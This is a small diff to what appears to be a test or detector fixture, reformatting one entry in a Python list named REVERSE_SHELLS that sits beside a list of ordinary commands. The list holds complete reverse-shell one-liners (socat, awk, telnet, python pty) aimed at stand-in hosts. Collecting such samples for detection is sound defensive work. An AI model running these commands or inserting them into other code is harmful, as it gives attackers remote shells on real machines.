@@ -92,7 +92,8 @@ REVERSE_SHELLS = [
     "socat TCP:198.51.100.1:4444 EXEC:/bin/bash",
     "awk 'BEGIN{s=\"/inet/tcp/0/198.51.100.1/4444\";while(1){}}'",
     "telnet relay.example 443 | /bin/bash | telnet relay.example 444",
-    'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.1",44));os.dup2(s.fileno(),0);pty.spawn("sh")\'',
+    "python3 -c 'import "
+    'socket,os,pty;s=socket.socket();s.connect(("198.51.100.1",44));os.dup2(s.fileno(),0);pty.spawn("sh")\'',
 ]
 ORDINARY = [
     'curl -X POST https://api.acme.example/v1 -H "Authorization: Bearer $ACME_TOKEN" -d \'{"a":1}\'',
